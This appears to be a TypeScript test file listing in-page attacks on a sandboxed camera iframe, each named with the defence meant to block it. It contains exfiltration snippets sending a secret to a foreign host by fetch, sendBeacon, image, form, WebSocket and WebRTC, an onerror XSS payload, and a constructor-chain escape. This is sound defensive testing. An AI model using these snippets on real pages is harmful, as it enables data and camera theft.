/** Attacks by code in the page, as by cross-site scripting or a malicious extension's content script. */
import type { Attack } from './attack.ts';

const ORIGIN = 'opaque origin: the frame is foreign to the page';
const HELD = 'the page holds no canvas, video or picture of the camera';
const GUARD = 'the camera hears the listed commands alone';
const POLICY = 'content security policy of the page';
const TYPES = 'Trusted Types';

const attack = (name: string, wall: string, code: string): Attack => ({
  attack: name,
  wall,
  place: 'page',
  code,
});
const FRAME = `const frame = document.querySelector('iframe[sandbox]'); if (!frame) throw new Error('no frame');`;
/** Every canvas of the page that lies in the camera's window. */
const CANVASES = `const canvases = [...document.querySelectorAll('.pane canvas, .window canvas')];`;

export const IN_PAGE: readonly Attack[] = [
  attack('the frame’s document', ORIGIN, `${FRAME} return Boolean(frame.contentDocument);`),
  attack('the frame’s window', ORIGIN, `${FRAME} return Boolean(frame.contentWindow.document);`),
  attack(
    'a canvas of the camera, read by getImageData',
    HELD,
    `${CANVASES} return canvases.map((c) => { const d = document.createElement('canvas').getContext('2d'); d.drawImage(c, 0, 0); return d.getImageData(0, 0, 1, 1).data.join(); }).join(' ');`,
  ),
  attack(
    'a canvas of the camera, read by toDataURL',
    HELD,
    `${CANVASES} return canvases.map((c) => c.toDataURL().length).join();`,
  ),
  attack(
    'a canvas of the camera, read by captureStream',
    HELD,
    `${CANVASES} return canvases.map((c) => c.captureStream().id).join();`,
  ),
  attack(
    'a canvas of the camera, read by VideoFrame',
    HELD,
    `${CANVASES} return canvases.map((c) => new VideoFrame(c, { timestamp: 0 }).codedWidth).join();`,
  ),
  attack(
    'a canvas of the camera, read by createImageBitmap',
    HELD,
    `${CANVASES} return (await Promise.all(canvases.map((c) => createImageBitmap(c)))).map((b) => b.width).join();`,
  ),
  attack(
    'a video or picture element of the camera',
    HELD,
    `return [...document.querySelectorAll('video, .pane img')].map((e) => e.tagName).join();`,
  ),
  attack(
    'the frame drawn on a canvas',
    ORIGIN,
    `${FRAME} document.createElement('canvas').getContext('2d').drawImage(frame, 0, 0); return true;`,
  ),
  attack('the frame as an image bitmap', ORIGIN, `${FRAME} return Boolean(await createImageBitmap(frame));`),
  attack(
    'a canvas of the page’s own given to the camera',
    GUARD,
    `
     const port = self.incamStolen; if (!port) throw new Error('no port');
     const canvas = document.createElement('canvas'); const off = canvas.transferControlToOffscreen();
     port.postMessage({ id: 'attack', type: 'APPLY', path: ['attachPreview'], argumentList: [{ type: 'RAW', value: off }] }, [off]);
     await wait(1500); const d = document.createElement('canvas').getContext('2d'); d.drawImage(canvas, 0, 0);
     return d.getImageData(0, 0, 8, 8).data.some((value) => value > 0);`,
  ),
  attack(
    'commands outside the list',
    GUARD,
    `
     const port = self.incamStolen; if (!port) throw new Error('no port'); const heard = [];
     port.addEventListener('message', ({ data }) => { if (String(data?.id).startsWith('attack')) heard.push(data.id); });
     for (const [i, m] of [{ type: 'GET', path: [] }, { type: 'GET', path: ['parts'] }, { type: 'SET', path: ['open'], value: { type: 'RAW', value: 1 } }, { type: 'ENDPOINT' }, { type: 'APPLY', path: ['constructor', 'constructor'], argumentList: [{ type: 'RAW', value: 'return self' }] }, { type: 'APPLY', path: ['start', 'constructor'], argumentList: [{ type: 'RAW', value: 'return self' }] }, { type: 'APPLY', path: ['stop', 'call'], argumentList: [] }, { type: 'CONSTRUCT', path: ['open'], argumentList: [] }].entries()) port.postMessage({ id: 'attack-' + i, ...m });
     await wait(800); return heard.join();`,
  ),
  attack(
    'a second beginning, by a stranger’s message to the frame',
    'the frame hears one page, once',
    `
     ${FRAME} const { port1, port2 } = new MessageChannel(); let heard = '';
     port1.onmessage = ({ data }) => (heard = JSON.stringify(data));
     frame.contentWindow.postMessage({ incam: 'begin' }, '*', [port2]); port1.postMessage({ do: 'ping', n: 1 });
     await wait(500); return heard;`,
  ),
  attack(
    'the frame’s script exchanged',
    'the hash of the frame’s script in the page’s policy',
    `
     const f = document.createElement('iframe'); f.setAttribute('sandbox', 'allow-scripts'); let heard = '';
     addEventListener('message', (e) => { if (e.source === f.contentWindow) heard = String(e.data); });
     f.srcdoc = '<script>parent.postMessage("mine runs", "*")</' + 'script>'; document.body.append(f); await wait(500); f.remove(); return heard;`,
  ),
  attack(
    'markup with a script',
    TYPES,
    `const d = document.createElement('div'); d.innerHTML = '<img src=x onerror="self.leak=1">'; document.body.append(d); await wait(200); d.remove(); return self.leak;`,
  ),
  attack('code from text', POLICY, `await wait(1); return new Function('return 1')();`),
  attack('a script from another host', POLICY, `await import(foreign); return true;`),
  attack('fetch to another host', POLICY, `return (await fetch(foreign + '?' + secret)).status;`),
  attack('sendBeacon to another host', POLICY, `navigator.sendBeacon(foreign, secret); await wait(300);`),
  attack(
    'WebSocket to another host',
    POLICY,
    `new WebSocket(foreign.replace('http', 'ws')); await wait(300);`,
  ),
  attack('a picture from another host', POLICY, `new Image().src = foreign + '?' + secret; await wait(300);`),
  attack(
    'a form to another host',
    POLICY,
    `const f = Object.assign(document.createElement('form'), { action: foreign, method: 'post' }); document.body.append(f); f.submit(); await wait(300); f.remove();`,
  ),
  attack(
    'a frame of another host',
    POLICY,
    `const f = Object.assign(document.createElement('iframe'), { src: foreign }); document.body.append(f); await wait(300); f.remove();`,
  ),
  attack(
    'WebRTC to another host',
    'Connection-Allowlist',
    `
     const rtc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + new URL(foreign).hostname + ':' + stun }] });
     rtc.createDataChannel('x'); await rtc.setLocalDescription(await rtc.createOffer()); await wait(1500); rtc.close();`,
  ),
];
